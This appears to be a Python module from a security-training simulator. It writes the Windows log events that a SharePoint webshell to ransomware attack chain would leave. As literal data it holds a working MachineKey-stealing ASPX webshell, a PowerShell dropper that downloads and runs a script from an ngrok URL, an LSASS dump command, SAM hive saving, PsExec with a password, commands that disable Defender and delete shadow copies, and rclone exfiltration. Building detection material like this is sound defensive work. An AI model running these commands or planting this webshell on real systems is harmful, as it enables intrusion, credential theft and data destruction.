"""The attack in the Windows logs: what each step of the plan leaves in Security, Sysmon, System.

The chain follows the public reporting on ToolShell and Storm-2603 (reference/attack_chain.md,
sections 1.4-2.1) and writes what those tools leave on a host audited as section 2.2 asks
(command lines in 4688, Detailed File Share, Directory Service Changes, Sysmon 1/3/10/11/13/22):

- SP-FE01: the IIS worker of the app pool "SharePoint - 80" (running as NWT\\svc_sharepoint, a
  local administrator, as SharePoint farm accounts often are) writes spinstall0.aspx into
  LAYOUTS ("webshell"); the first request compiles it with csc.exe ("key_theft"); after the
  second wave it runs `cmd.exe /c powershell -nop -w hidden -EncodedCommand ...`, a script that
  writes the webshell again and runs file.ps1 from the ngrok tunnel: an agent that stays
  ("encoded_powershell"); through the webshell come whoami, nltest and net group ("discovery"),
  an LSASS dump with comsvcs.dll ("lsass") and saved registry hives ("sam_save"); the agent runs
  PsExec against FS01 and later starts the AK47C2 implant that beacons home ("c2").
- FS01: PsExec's service and an interactive cmd.exe as the stolen domain administrator
  ("psexec"), from which Defender is switched off, a boot task is registered, and a renamed
  rclone copies the shares out ("defender_off", "persistence", "exfil"). The Group Policy task
  then runs a batch file that deletes the shadow copies and starts the locker, which writes
  .x2anylock files and ransom notes ("shadow_delete", "encrypt").
- DC01: Impacket's wmiexec as the administrator ("wmi"), and later the same channel copying a
  scheduled-task preference into the Default Domain Policy and raising its version ("gpo").

Events land on the host that logs them, tagged with the step: the NTLM validation of a logon to
FS01 is on DC01, the PsExec client on SP-FE01. Every step also has events on its own host at
its time. What network.py sends over the wire is the same: the ngrok edge address, the C2
address, the bucket on the cloud storage and rclone's version.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from datetime import timedelta
from operator import attrgetter
from typing import TYPE_CHECKING

from warroom.scenario.model import Step, WinEvent
from warroom.scenario.windows_benign import start_service
from warroom.scenario.windows_host import (
    BERLIN,
    CMD,
    CONHOST,
    CONHOST_CMD,
    DEFAULT_DOMAIN_POLICY,
    HOUR,
    KERBEROS,
    MINUTE,
    NTLM,
    POWERSHELL,
    S32,
    SHARE_FOLDERS,
    SP_HIVE,
    TAG_ATTACK,
    US,
    WMIPRVSE,
    Account,
    Machine,
    Proc,
    Session,
    document,
    file_name,
)

if TYPE_CHECKING:
    from warroom.scenario.windows import Emitter

__all__ = ["SCRIPT", "attack_events"]

_TIME = attrgetter("time")
LAYOUTS = SP_HIVE + "\\TEMPLATE\\LAYOUTS\\"
NGROK_EDGE = "3.125.209.94"  # network.NGROK_EDGE: where the tunnel's name resolved to
IMPLANT = "C:\\ProgramData\\Microsoft\\Windows\\Caches\\msupdate.exe"
RCLONE = "C:\\ProgramData\\TrendSecurity.exe"  # the name Trend Micro saw rclone renamed to
LOCKER = "C:\\ProgramData\\winupd.exe"
PSEXEC = "C:\\ProgramData\\PsExec64.exe"
# The administrator's password, read from the LSASS dump: it is on PsExec's command line.
PASSWORD = "Nwt#Adm2025!"  # noqa: S105
GPO = DEFAULT_DOMAIN_POLICY

# spinstall0.aspx: prints the server's ASP.NET MachineKey (attack_chain.md section 1.4).
ASPX = """<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<script runat="server" language="c#" CODEPAGE="65001">
    public void Page_load()
    {
        var sy = System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, \
PublicKeyToken=b03f5f7f11d50a3a");
        var mkt = sy.GetType("System.Web.Configuration.MachineKeySection");
        var gac = mkt.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static \
| System.Reflection.BindingFlags.NonPublic);
        var cg = (System.Web.Configuration.MachineKeySection)gac.Invoke(null, new object[0]);
        Response.Write(cg.ValidationKey+"|"+cg.Validation+"|"+cg.DecryptionKey+"|"+\
cg.Decryption+"|"+cg.CompatibilityMode);
    }
</script>
"""
# The dropper behind -EncodedCommand: decode the page into LAYOUTS (by its 8.3 path), then run
# the agent served through the ngrok tunnel.
SCRIPT = "\r\n".join(
    (
        f'$base64String = "{base64.b64encode(ASPX.encode()).decode()}"',
        '$destinationFile = "C:\\PROGRA~1\\COMMON~1\\MICROS~1\\WEBSER~1\\16\\TEMPLATE\\LAYOUTS'
        '\\spinstall0.aspx"',
        "$decodedBytes = [System.Convert]::FromBase64String($base64String)",
        "$decodedContent = [System.Text.Encoding]::UTF8.GetString($decodedBytes)",
        "$decodedContent | Set-Content -Path $destinationFile -ErrorAction Stop",
        "IEX (New-Object Net.WebClient).DownloadString('https://c34718cbb4c6.ngrok-free.app/file.ps1')",
    )
)
_ENCODED = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()
_INETSRV = "C:\\Windows\\system32\\inetsrv\\"


class _Run:
    """One host's pass over the plan: its emitter, and the processes steps hand on."""

    def __init__(self, e: Emitter) -> None:
        self.e, self.m = e, e.m
        self.procs: dict[str, Proc] = {}

    def on(self, host: str) -> bool:
        return self.m.host.name == host

    def admin(self, t: int) -> tuple[Account, int, Session]:
        """The stolen domain administrator's network logon at T: account, id, session."""
        account = Account("Administrator", "NWT", self.m.world.sid("Administrator"))
        logon_id = 0x5000000 + (t // US) % 0x1000000
        return account, logon_id, self.m.account_session("Administrator", t, logon_id, "High")

    def shell(self, t: int, parent: Proc, command: str, cwd: str = _INETSRV) -> Proc:
        """PARENT runs `cmd.exe /c COMMAND`: cmd.exe, its conhost.exe, and the program."""
        e = self.e
        cmd = e.spawn(t, parent, CMD, f"cmd.exe /c {command}", cwd=cwd)
        e.spawn(t + 4000, cmd, CONHOST, CONHOST_CMD)
        return cmd


def attack_events(m: Machine, e: Emitter) -> list[WinEvent]:
    """The attack's events on M in E's channel, in time order, each tagged with its step."""
    run = _Run(e)
    e.begin(TAG_ATTACK, 0)
    for step in m.world.steps:
        if handler := _STEPS.get(step.id):
            e.step = step.id
            t = (step.time - m.world.start) // timedelta(microseconds=1)
            e.hour = t // HOUR
            handler(run, step, t)
    e.step = None
    e.out.sort(key=_TIME)
    return e.out


# --- SP-FE01 -----------------------------------------------------------------------------------


def _webshell(run: _Run, step: Step, t: int) -> None:
    if run.on(step.host):
        run.e.file(t, run.m.resident("w3wp", t), LAYOUTS + "spinstall0.aspx")


_ASPNET = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319"
_COMPILED = f"{_ASPNET}\\Temporary ASP.NET Files\\root\\5c1f6b2a\\e8d40c8f\\"


def _key_theft(run: _Run, step: Step, t: int) -> None:
    """The first request for the page: ASP.NET compiles it with csc.exe in the worker."""
    if not run.on(step.host):
        return
    e, w3wp = run.e, run.m.resident("w3wp", t)
    args = f'/noconfig /fullpaths @"{_COMPILED}k3hgjv0q.cmdline"'
    csc = e.spawn(
        t - 900_000, w3wp, f"{_ASPNET}\\csc.exe", f'"{_ASPNET}\\csc.exe" {args}', cwd=_INETSRV
    )
    res = f'"/OUT:C:\\Windows\\TEMP\\RES4F2A.tmp" "{_COMPILED}CSC8D1E.tmp"'
    cvtres = e.spawn(
        t - 700_000,
        csc,
        f"{_ASPNET}\\cvtres.exe",
        f"{_ASPNET}\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 {res}",
    )
    e.exit(t - 650_000, cvtres)
    e.file(t - 400_000, csc, _COMPILED + "App_Web_spinstall0.aspx.9c9699a8.k3hgjv0q.dll")
    e.exit(t - 300_000, csc)


def _encoded_powershell(run: _Run, step: Step, t: int) -> None:
    """The second wave's dropper; the agent it starts stays for the rest of the attack."""
    if not run.on(step.host):
        return
    e, w3wp = run.e, run.m.resident("w3wp", t)
    flags = f"-nop -w hidden -EncodedCommand {_ENCODED}"
    cmd = run.shell(t, w3wp, f"powershell {flags}")
    agent = e.spawn(t + 30_000, cmd, POWERSHELL, f"powershell  {flags}", cwd=_INETSRV)
    temp = "C:\\Users\\svc_sharepoint\\AppData\\Local\\Temp\\"
    e.file(t + 900_000, agent, temp + "__PSScriptPolicyTest_v2lq4bqi.dxo.ps1")
    e.file(t + 1_400_000, agent, LAYOUTS + "spinstall0.aspx")
    domain = run.m.world.c2_domains[1]
    e.dns(t + 1_600_000, agent, domain, f"::ffff:{NGROK_EDGE};")
    e.connect(t + 1_700_000, agent, NGROK_EDGE, 443, domain)
    run.procs["agent"] = agent


_DISCOVERY = (
    (S32 + "whoami.exe", "whoami /all", ()),
    (S32 + "nltest.exe", "nltest /domain_trusts", ()),
    (S32 + "net.exe", 'net group "domain admins" /domain', (S32 + "net1.exe",)),
)


def _discovery(run: _Run, step: Step, t: int) -> None:
    """Commands through the webshell: each a cmd.exe of the IIS worker."""
    if not run.on(step.host):
        return
    e = run.e
    for n, (image, command, helpers) in enumerate(_DISCOVERY):
        at = t + n * 47 * US
        cmd = run.shell(at, run.m.resident("w3wp", at), command)
        tool = e.spawn(at + 30_000, cmd, image, command.replace(" ", "  ", 1), cwd=_INETSRV)
        for helper in helpers:  # net.exe hands the work to net1.exe
            args = command.split(" ", 1)[1]
            e.exit(
                at + 900_000,
                e.spawn(
                    at + 60_000, tool, helper, f"C:\\Windows\\system32\\net1  {args}", cwd=_INETSRV
                ),
            )
        e.exit(at + US, tool)
        e.exit(at + US + 20_000, cmd)


_MINIDUMP_TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9fa24|C:\\Windows\\System32\\KERNELBASE.dll+2bcae|"
    "C:\\Windows\\SYSTEM32\\dbgcore.DLL+6e1d|C:\\Windows\\System32\\comsvcs.dll+3d73a|"
    "C:\\Windows\\system32\\rundll32.exe+3bd4|C:\\Windows\\System32\\KERNEL32.DLL+17bd4|"
    "C:\\Windows\\SYSTEM32\\ntdll.dll+6ced1"
)


def _lsass(run: _Run, step: Step, t: int) -> None:
    """LSASS dumped with comsvcs.dll's MiniDump export, through the webshell."""
    if not run.on(step.host):
        return
    e, lsass = run.e, run.m.resident("lsass", t)
    dump = "C:\\Windows\\Temp\\lsass.dmp"
    args = f"C:\\windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {dump} full"
    cmd = run.shell(t, run.m.resident("w3wp", t), f"rundll32.exe {args}")
    dumper = e.spawn(t + 30_000, cmd, S32 + "rundll32.exe", f"rundll32.exe  {args}", cwd=_INETSRV)
    e.access(t + 180_000, dumper, lsass, "0x1fffff", _MINIDUMP_TRACE)
    e.file(t + 200_000, dumper, dump)
    e.exit(t + 3 * US, dumper)
    e.exit(t + 3 * US + 20_000, cmd)


def _sam_save(run: _Run, step: Step, t: int) -> None:
    """The SAM and SYSTEM hives saved for offline cracking."""
    if not run.on(step.host):
        return
    e = run.e
    saves = [
        f"reg save HKLM\\{hive} C:\\Windows\\Temp\\{hive.lower()}.save"
        for hive in ("SAM", "SYSTEM")
    ]
    cmd = run.shell(t, run.m.resident("w3wp", t), " & ".join(saves))
    for n, save in enumerate(saves):
        at = t + 30_000 + n * 1_300_000
        reg = e.spawn(at, cmd, S32 + "reg.exe", save.replace(" ", "  ", 1), cwd=_INETSRV)
        e.file(at + 600_000, reg, save.rsplit(" ", 1)[1])
        e.exit(at + 1_200_000, reg)
    e.exit(t + 3 * US, cmd)


def _c2(run: _Run, step: Step, t: int) -> None:
    """The agent drops and starts the AK47C2 implant, which looks up its server and calls."""
    if not run.on(step.host):
        return
    e, agent, world = run.e, run.procs["agent"], run.m.world
    e.file(t - 40 * US, agent, IMPLANT)
    implant = e.spawn(t - 2 * US, agent, IMPLANT, f'"{IMPLANT}"', cwd="C:\\ProgramData\\")
    e.dns(t - US, implant, world.c2_domains[0], f"::ffff:{world.attacker_ips[3]};")
    e.connect(t, implant, world.attacker_ips[3], 443, world.c2_domains[0])


# --- FS01 --------------------------------------------------------------------------------------


def _psexec(run: _Run, step: Step, t: int) -> None:
    """PsExec from SP-FE01 to FS01 with the administrator's password: an interactive cmd.exe."""
    e, m, world = run.e, run.m, run.m.world
    source = world.host("SP-FE01")
    account, logon_id, session = run.admin(t)
    if run.on(source.name):
        args = f"\\\\{step.host} -accepteula -u NWT\\Administrator -p {PASSWORD} cmd.exe"
        e.spawn(t - 2 * US, run.procs["agent"], PSEXEC, f"{PSEXEC} {args}", cwd=_INETSRV)
        # SMB goes out through the kernel's redirector: Sysmon names the System process.
        e.connect(t - US, m.resident("system", t), world.host(step.host).ip, 445)
    elif m.host.role == "dc":
        e.audit(
            t - 500_000,
            4776,
            ("MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "Administrator", source.name, "0x0"),
        )
    if not run.on(step.host):
        return
    e.logon(t, NTLM, account, logon_id, ip=source.ip, port="50212", workstation=source.name)
    e.special(t + 100, account, logon_id, admin=True)
    subject = (account.sid, account.name, account.domain, hex(logon_id))
    system, services = m.resident("system", t), m.resident("services", t)
    _share(
        e,
        t + 200_000,
        subject,
        source.ip,
        "ADMIN$",
        "\\??\\C:\\Windows",
        "PSEXESVC.exe",
        write=True,
    )
    e.file(t + 300_000, system, "C:\\Windows\\PSEXESVC.exe")
    e.file(t + 350_000, system, f"C:\\Windows\\PSEXEC-{source.name}-5E2A91C4.key")
    _share(e, t + 400_000, subject, source.ip, "IPC$", "", "svcctl")
    service = (
        "PSEXESVC",
        "%SystemRoot%\\PSEXESVC.exe",
        "user mode service",
        "demand start",
        "LocalSystem",
    )
    e.service_install(t + 500_000, service, account.sid)
    key = "HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC"
    e.registry(t + 500_000, services, key)
    e.registry(t + 510_000, services, key + "\\ImagePath", "%SystemRoot%\\PSEXESVC.exe")
    svc = start_service(
        e,
        t + 700_000,
        ("PSEXESVC", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "system"),
    )
    for pipe in ("stdin", "stdout", "stderr"):
        name = f"PSEXESVC-{source.name}-7312-{pipe}"
        _share(e, t + 900_000, subject, source.ip, "IPC$", "", name, connect=False)
    if svc:
        shell = e.spawn(t + US, svc, CMD, '"cmd.exe" ', session)
        e.spawn(t + US + 4000, shell, CONHOST, CONHOST_CMD, session)
        run.procs["shell"] = shell


def _share(
    e: Emitter, t: int, subject: tuple[str, str, str, str], ip: str, share: str, path: str,
    target: str, write: bool = False, connect: bool = True,
) -> None:  # fmt: skip
    """5140 for connecting to SHARE (if CONNECT), 5145 for TARGET in it."""
    tab = "\r\n\t\t\t\t"
    where = ("File", ip, "50212", f"\\\\*\\{share}", path)
    if connect:
        e.audit(t, 5140, (*subject, *where, "0x1", "%%4416" + tab))
    mask, access = (
        ("0x2", "%%4417" + tab)
        if write
        else ("0x12019f", tab.join(("%%1538", "%%4416", "%%4417", "")))
    )
    e.audit(t + 1000, 5145, (*subject, *where, target, mask, access, "-"))


_DEFENDER_POLICY = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender"
_DEFENDER_VALUES = (
    (_DEFENDER_POLICY, "DisableAntiSpyware"),
    (_DEFENDER_POLICY + "\\Real-Time Protection", "DisableRealtimeMonitoring"),
)
# What Set-MpPreference changes, written by the Defender engine itself.
_REALTIME = (
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring"
)


def _defender_off(run: _Run, step: Step, t: int) -> None:
    """Defender switched off by policy values and by Set-MpPreference."""
    if not run.on(step.host):
        return
    e, shell = run.e, run.procs["shell"]
    for n, (key, value) in enumerate(_DEFENDER_VALUES):
        at = t + n * 23 * US
        reg = e.spawn(
            at, shell, S32 + "reg.exe", f'reg  add "{key}" /v {value} /t REG_DWORD /d 1 /f'
        )
        e.registry(at + 80_000, reg, f"{key}\\{value}", "DWORD (0x00000001)")
        e.exit(at + 200_000, reg)
    at = t + 51 * US
    ps = e.spawn(
        at,
        shell,
        POWERSHELL,
        "powershell  -Command Set-MpPreference -DisableRealtimeMonitoring $true",
    )
    e.spawn(at + 4000, ps, CONHOST, CONHOST_CMD)
    if engine := run.m.alive("msmpeng", at):
        e.registry(at + 2 * US, engine, _REALTIME, "DWORD (0x00000001)")
    e.exit(at + 3 * US, ps)


_TASK = "\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Update Check"


def _persistence(run: _Run, step: Step, t: int) -> None:
    """A boot task for the implant, copied over from SP-FE01 first."""
    if not run.on(step.host):
        return
    e, m, shell = run.e, run.m, run.procs["shell"]
    e.file(t - MINUTE, m.resident("system", t), IMPLANT)
    command = f'schtasks  /create /tn "{_TASK[1:]}" /tr "{IMPLANT}" /sc onstart /ru SYSTEM /f'
    tool = e.spawn(t, shell, S32 + "schtasks.exe", command)
    xml = _task_xml(run, t, "NWT\\Administrator", _TASK, "<BootTrigger>", IMPLANT, "")
    shell_session = shell.session
    e.audit(t + 300_000, 4698, (shell_session.sid, shell_session.name, shell_session.domain,
                                shell_session.logon_id, _TASK, xml))  # fmt: skip
    schedule = m.resident("schedule", t)
    e.file(t + 310_000, schedule, f"C:\\Windows\\System32\\Tasks{_TASK}")
    tree = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree"
    e.registry(
        t + 320_000, schedule, f"{tree}{_TASK}\\Id", "{6F1B2C3D-4E5A-4B7C-9D8E-0A1B2C3D4E5F}"
    )
    e.exit(t + 400_000, tool)


def _task_xml(
    run: _Run, t: int, author: str, uri: str, trigger: str, command: str, args: str
) -> str:
    """A task as Windows stores it and 4698 shows it (UTF-16 declared, CRLF line ends)."""
    when = run.m.when(t).astimezone(BERLIN).strftime("%Y-%m-%dT%H:%M:%S")
    close = trigger.replace("<", "</")
    arguments = f"      <Arguments>{args}</Arguments>\r\n" if args else ""
    return (
        '<?xml version="1.0" encoding="UTF-16"?>\r\n'
        '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n'
        f"  <RegistrationInfo>\r\n    <Date>{when}</Date>\r\n    <Author>{author}</Author>\r\n"
        f"    <URI>{uri}</URI>\r\n  </RegistrationInfo>\r\n"
        f"  <Triggers>\r\n    {trigger}\r\n      <Enabled>true</Enabled>\r\n    {close}\r\n"
        '  </Triggers>\r\n  <Principals>\r\n    <Principal id="Author">\r\n'
        "      <UserId>S-1-5-18</UserId>\r\n      <RunLevel>HighestAvailable</RunLevel>\r\n"
        "    </Principal>\r\n  </Principals>\r\n  <Settings>\r\n"
        "    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>\r\n"
        "    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>\r\n"
        "    <AllowHardTerminate>true</AllowHardTerminate>\r\n"
        "    <ExecutionTimeLimit>P3D</ExecutionTimeLimit>\r\n    <Priority>7</Priority>\r\n"
        '  </Settings>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n'
        f"      <Command>{command}</Command>\r\n{arguments}    </Exec>\r\n  </Actions>\r\n</Task>"
    )


def _exfil(run: _Run, step: Step, t: int) -> None:
    """The renamed rclone copies the share to the attacker's bucket, 32 transfers at a time."""
    if not run.on(step.host):
        return
    e, m, world, shell = run.e, run.m, run.m.world, run.procs["shell"]
    bucket = f"bkp-{world.rng('exfil', 'bucket').randbytes(4).hex()}"  # as network.py names it
    e.file(t - 3 * MINUTE, m.resident("system", t), RCLONE)
    e.file(t - MINUTE, shell, "C:\\ProgramData\\rclone.conf")
    command = (
        f"{RCLONE} copy \\\\{step.host}\\shares nwt:{bucket}/fs01 --config "
        f"C:\\ProgramData\\rclone.conf --s3-endpoint https://{world.exfil_host} --transfers 32 "
        "--no-check-certificate --ignore-existing -q"
    )
    rclone = e.spawn(t, shell, RCLONE, command, cwd="C:\\ProgramData\\")
    e.dns(t + 400_000, rclone, world.exfil_host, f"::ffff:{world.exfil_ip};")
    for lane in range(32):
        e.connect(t + US + lane * 40_000, rclone, world.exfil_ip, 443, world.exfil_host)
    account, logon_id, _ = run.admin(t)
    who = account._replace(domain=m.realm)
    e.logon(
        t + 600_000,
        KERBEROS,
        who,
        logon_id + 1,
        ip="::1",
        port="0",
        logon_guid="{5D7A1E9B-3C24-4F61-8B0D-2E6F7A9C1D34}",
    )
    subject = (account.sid, account.name, account.domain, hex(logon_id + 1))
    for n in range(24):
        at, path = t + 700_000 + n * 9 * US, document(n * 7919)
        _share(e, at, subject, "::1", "shares", "\\??\\D:\\Shares", path, connect=n == 0)
    e.exit(t + 6 * HOUR + 14 * MINUTE, rclone)


# --- DC01 --------------------------------------------------------------------------------------


def _wmiexec(run: _Run, step: Step, t: int, commands: tuple[str, ...]) -> list[Proc]:
    """Impacket's wmiexec from SP-FE01 as the administrator: a network logon, a new WMI
    provider host, and each command as `cmd.exe /Q /c ... 1> \\\\127.0.0.1\\ADMIN$\\__<time>`."""
    e, m = run.e, run.m
    source = m.world.host("SP-FE01")
    account, logon_id, session = run.admin(t)
    e.audit(
        t - 300_000,
        4776,
        ("MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "Administrator", source.name, "0x0"),
    )
    e.logon(
        t - 200_000, NTLM, account, logon_id, ip=source.ip, port="50317", workstation=source.name
    )
    e.special(t - 199_000, account, logon_id, admin=True)
    provider = e.spawn(t - 100_000, m.resident("dcom", t), WMIPRVSE,
                       "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                       m.session("network", t))  # fmt: skip
    # Impacket names the output file once per session: "__" + str(time.time()).
    output = f"__{m.unix0 + t // US}.{(t * 7919 + 104_729) % 10**7:07d}"
    subject = (account.sid, account.name, account.domain, hex(logon_id))
    shells = []
    for n, command in enumerate(commands):
        at = t + n * 6 * US
        line = f"cmd.exe /Q /c {command} 1> \\\\127.0.0.1\\ADMIN$\\{output} 2>&1"
        shell = e.spawn(at, provider, CMD, line, session, cwd="C:\\")
        e.exit(at + 2 * US, e.spawn(at + 4000, shell, CONHOST, CONHOST_CMD, session))
        e.file(at + 300_000, m.resident("system", at), f"C:\\Windows\\{output}")
        _share(
            e,
            at + 1_500_000,
            subject,
            source.ip,
            "ADMIN$",
            "\\??\\C:\\Windows",
            output,
            connect=n == 0,
        )
        shells.append(shell)
        e.exit(at + 2 * US, shell)
    return shells


def _wmi(run: _Run, step: Step, t: int) -> None:
    if run.on(step.host):
        shell = _wmiexec(run, step, t, ("cd \\", "whoami"))[1]
        e = run.e
        e.exit(
            t + 7 * US,
            e.spawn(t + 6 * US + 40_000, shell, S32 + "whoami.exe", "whoami", cwd="C:\\"),
        )


_SYSVOL = "C:\\Windows\\SYSVOL\\domain\\"
_TASKS_XML = f"{_SYSVOL}Policies\\{GPO}\\Machine\\Preferences\\ScheduledTasks"
# gPCMachineExtensionNames: [{extension}{tool}] pairs in GUID order, as GPMC writes them. The
# Default Domain Policy's own, and the scheduled-task preference's (what the Sigma rule seeks).
_CSE = (
    "{35378EAC-683F-11D2-A89A-00C04FBBCFA2}{53D6AB1B-2488-11D1-A28C-00C04FB94F17}",
    "{827D319E-6EAC-11D2-A4EA-00C04F79F83A}{803E14A0-B4FB-11D0-A0D0-00A0C90F574B}",
    "{B1BE8D72-6EAC-11D2-A4EA-00C04F79F83A}{53D6AB1B-2488-11D1-A28C-00C04FB94F17}",
)
_TASKS_CSE = (
    "{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}",
    "{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}",
)
_CSE_OLD = "".join(f"[{pair}]" for pair in _CSE)
_CSE_NEW = "".join(f"[{pair}]" for pair in sorted(_CSE + _TASKS_CSE))
_VERSIONS = ("131084", "131085")


def _gpo(run: _Run, step: Step, t: int) -> None:
    """The ransomware pushed by Group Policy: a scheduled-task preference and the batch file
    copied into SYSVOL, the Default Domain Policy's extensions and version raised."""
    if not run.on(step.host):
        return
    e, m = run.e, run.m
    system = m.resident("system", t)
    for n, name in enumerate(("st.xml", "update.bat", "winupd.exe")):
        e.file(t - 90 * US + n * 2 * US, system, f"C:\\Windows\\Temp\\{name}")
    commands = (
        f'md "{_TASKS_XML}"',
        f'copy C:\\Windows\\Temp\\st.xml "{_TASKS_XML}\\ScheduledTasks.xml"',
        f"copy C:\\Windows\\Temp\\update.bat {_SYSVOL}scripts\\update.bat",
        f"copy C:\\Windows\\Temp\\winupd.exe {_SYSVOL}scripts\\winupd.exe",
        f'powershell -nop -c "{_raise_script(m)}"',
    )
    shells = _wmiexec(run, step, t, commands)
    targets = (
        f"{_TASKS_XML}\\ScheduledTasks.xml",
        f"{_SYSVOL}scripts\\update.bat",
        f"{_SYSVOL}scripts\\winupd.exe",
    )
    for n, (shell, target) in enumerate(zip(shells[1:4], targets, strict=True), start=1):
        e.file(t + n * 6 * US + 500_000, shell, target)
    _raise_version(run, t + 4 * 6 * US, shells[4])


def _container(m: Machine) -> str:
    """The Default Domain Policy's groupPolicyContainer."""
    dn = ",".join(f"DC={part}" for part in m.world.dns_domain.split("."))
    return f"CN={GPO},CN=Policies,CN=System,{dn}"


def _raise_script(m: Machine) -> str:
    gpt = f"{_SYSVOL}Policies\\{GPO}\\GPT.INI"
    return (
        f"Set-ADObject '{_container(m)}' -Replace @{{gPCMachineExtensionNames='{_CSE_NEW}';"
        f"versionNumber={_VERSIONS[1]}}}; (Get-Content {gpt}) -replace "
        f"'{_VERSIONS[0]}','{_VERSIONS[1]}' | Set-Content {gpt}"
    )


def _raise_version(run: _Run, t: int, shell: Proc) -> None:
    """PowerShell's Set-ADObject: 5136 pairs (value deleted, value added) on the GPO."""
    e, m = run.e, run.m
    container = _container(m)
    account, logon_id, _ = run.admin(t)
    command = f'powershell  -nop -c "{_raise_script(m)}"'
    ps = e.spawn(t + 40_000, shell, POWERSHELL, command, cwd="C:\\")
    subject = (account.sid, account.name, account.domain, hex(logon_id))
    changes = (("gPCMachineExtensionNames", "2.5.5.12", _CSE_OLD, _CSE_NEW),
               ("versionNumber", "2.5.5.9", *_VERSIONS))  # fmt: skip
    for n, (attribute, syntax, old, new) in enumerate(changes):
        correlation = f"{{8C1A5E3F-2B7D-4E90-A6C4-{0x1F3E5D7C9B0A + n:012X}}}"
        for k, (value, operation) in enumerate(((old, "%%14675"), (new, "%%14674"))):
            values = (correlation, "-", *subject, m.world.dns_domain, "%%14676", container,
                      "{5A0D2F3C-91B4-4C6E-8D27-3F1E6B9A0C45}", "groupPolicyContainer", attribute,
                      syntax, value, operation)  # fmt: skip
            e.audit(t + 700_000 + n * 300_000 + k * 1000, 5136, values)
    e.file(t + 1_400_000, ps, f"{_SYSVOL}Policies\\{GPO}\\GPT.INI")
    e.exit(t + 1_800_000, ps)


# --- FS01: the Group Policy task -----------------------------------------------------------------


def _shadow_delete(run: _Run, step: Step, t: int) -> None:
    """FS01 applies the policy: the task runs update.bat, which deletes the shadow copies."""
    if not run.on(step.host):
        return
    e, m = run.e, run.m
    netlogon = f"\\\\{m.world.dns_domain}\\NETLOGON\\update.bat"
    e.step = "gpo"  # the task's registration shows the policy arriving
    gpsvc = m.resident("gpsvc", t)
    history = f"C:\\ProgramData\\Microsoft\\Group Policy\\History\\{GPO}\\Machine\\Preferences"
    e.file(t - 40 * US, gpsvc, f"{history}\\ScheduledTasks\\ScheduledTasks.xml")
    system = m.session("system", t)
    xml = _task_xml(
        run,
        t - 40 * US,
        "NWT\\Administrator",
        "\\WinUpdate",
        "<TimeTrigger>",
        CMD,
        f"/c {netlogon}",
    )
    e.audit(
        t - 39 * US,
        4698,
        (system.sid, system.name, system.domain, system.logon_id, "\\WinUpdate", xml),
    )
    e.step = step.id
    batch = e.spawn(
        t, m.resident("schedule", t), CMD, f'C:\\Windows\\system32\\cmd.exe /c "{netlogon}"'
    )
    e.spawn(t + 4000, batch, CONHOST, CONHOST_CMD)
    vssadmin = e.spawn(
        t + 2 * US, batch, S32 + "vssadmin.exe", "vssadmin.exe  delete shadows /all /quiet"
    )
    start_service(
        e,
        t + 2_500_000,
        ("Volume Shadow Copy", S32 + "VSSVC.exe", "C:\\Windows\\system32\\vssvc.exe", "system"),
    )
    e.exit(t + 9 * US, vssadmin)
    wmic = e.spawn(t + 10 * US, batch, S32 + "wbem\\WMIC.exe", "wmic  shadowcopy delete")
    e.exit(t + 31 * US, wmic)
    e.file(t + 40 * US, batch, LOCKER)
    run.procs["batch"] = batch


_NOTE = "How to decrypt my data.txt"


def _encrypt(run: _Run, step: Step, t: int) -> None:
    """The locker encrypts the share folder by folder: a note in each, its files renamed."""
    if not run.on(step.host):
        return
    e, batch = run.e, run.procs["batch"]
    locker = e.spawn(t, batch, LOCKER, f"{LOCKER}  -path D:\\Shares", cwd="C:\\ProgramData\\")
    at = t + US
    for n in range(24):
        folder = f"D:\\Shares\\{SHARE_FOLDERS[n % len(SHARE_FOLDERS)]}"
        if n >= len(SHARE_FOLDERS):
            folder += f"\\Archiv {2025 - n // len(SHARE_FOLDERS)}"
        e.file(at, locker, f"{folder}\\{_NOTE}")
        for k in range(11):
            at += 120_000 + (n * 11 + k) * 7919 % 400_000
            e.file(at, locker, f"{folder}\\{file_name(n * 11 + k)}.x2anylock")
    e.exit(at + 2 * US, locker)
    e.exit(at + 3 * US, batch)


_STEPS: dict[str, Callable[[_Run, Step, int], None]] = {
    "webshell": _webshell,
    "key_theft": _key_theft,
    "encoded_powershell": _encoded_powershell,
    "discovery": _discovery,
    "lsass": _lsass,
    "sam_save": _sam_save,
    "psexec": _psexec,
    "wmi": _wmi,
    "c2": _c2,
    "defender_off": _defender_off,
    "persistence": _persistence,
    "exfil": _exfil,
    "gpo": _gpo,
    "shadow_delete": _shadow_delete,
    "encrypt": _encrypt,
}
